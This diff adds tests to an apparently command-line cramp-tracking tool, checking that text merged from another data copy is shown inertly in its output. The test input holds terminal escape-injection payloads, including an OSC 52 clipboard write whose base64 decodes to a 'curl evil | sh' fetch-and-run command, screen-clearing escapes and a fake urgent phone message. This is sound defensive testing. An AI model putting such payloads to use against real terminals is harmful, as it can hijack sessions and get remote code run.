@@ -220,3 +220,57 @@ def test_a_backup_with_a_stamp_out_of_range_restores_without_it(
     outcomes = fresh(ctx).store.latest_outcomes(NIGHT, NIGHT)
     assert set(outcomes) == {(NIGHT, "stretch")}
     assert run(fresh(ctx), capsys, "done", "screens-off")[0] == 0
+
+
+# --- case 4: text from records is data ----------------------------------------------------
+
+HOSTILE = "calf\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 tight\x1b[2J\x1b[H\r\nURGENT: call 0900 666 666"
+
+
+def test_merged_text_reaches_the_terminal_as_data_and_marked(
+    ctx: Session, clock: FakeClock, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    other = _other_copy(tmp_path, clock)
+    other.store.record_cramps(NIGHT, 2, severity=5, notes="started a new tablet")
+    other.store.add_event(
+        NIGHT,
+        "red-flag",
+        {"flag": "fake-2026-11-22", "level": "urgent", "action": "emergency", "text": HOSTILE},
+    )
+
+    def hostile(tables: dict[str, Any]) -> None:
+        for table in ("outcomes", "cramps", "events"):
+            for doc in tables[table].values():
+                doc["origin"] = "cli@another-laptop"
+                if table == "cramps":
+                    doc["notes"] = HOSTILE
+
+    _edit(other.paths.db_dir / "2026-11.json", hostile)
+    assert run(fresh(ctx), capsys, "merge", str(other.paths.data_dir))[0] == 0
+    clock.set(datetime(2026, 11, 23, 9, 0, tzinfo=BERLIN))
+    for argv in (("flags",), ("report",), ("history", "--plain"), ("history",)):
+        code, out, err = run(fresh(ctx), capsys, *argv)
+        assert code == 0, (argv, err)
+        assert "\x1b" not in out + err and "\r" not in out + err and "\x07" not in out, argv
+        assert not [line for line in out.splitlines() if line.startswith("URGENT: call")], argv
+    _, flags, _ = run(fresh(ctx), capsys, "flags")
+    assert (
+        "URGENT (raised in another copy of the data, in its words): calf\ufffd tight\ufffd\ufffd"
+        " URGENT: call 0900 666 666 [fake-2026-11-22]"
+    ) in flags
+    _, report, _ = run(fresh(ctx), capsys, "report")
+    assert "(from another copy of the data) calf\ufffd tight\ufffd\ufffd URGENT: call" in report
+
+
+def test_ids_with_control_characters_do_not_fit(
+    ctx: Session, clock: FakeClock, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    other = _other_copy(tmp_path, clock)
+
+    def bad_id(tables: dict[str, Any]) -> None:
+        for doc in tables["outcomes"].values():
+            doc["id"] = "\x1b[2J"
+
+    _edit(other.paths.db_dir / "2026-11.json", bad_id)
+    code, out, err = run(fresh(ctx), capsys, "merge", str(other.paths.data_dir))
+    assert code == 0 and "its 'id' is not an id" in err and "\x1b" not in err
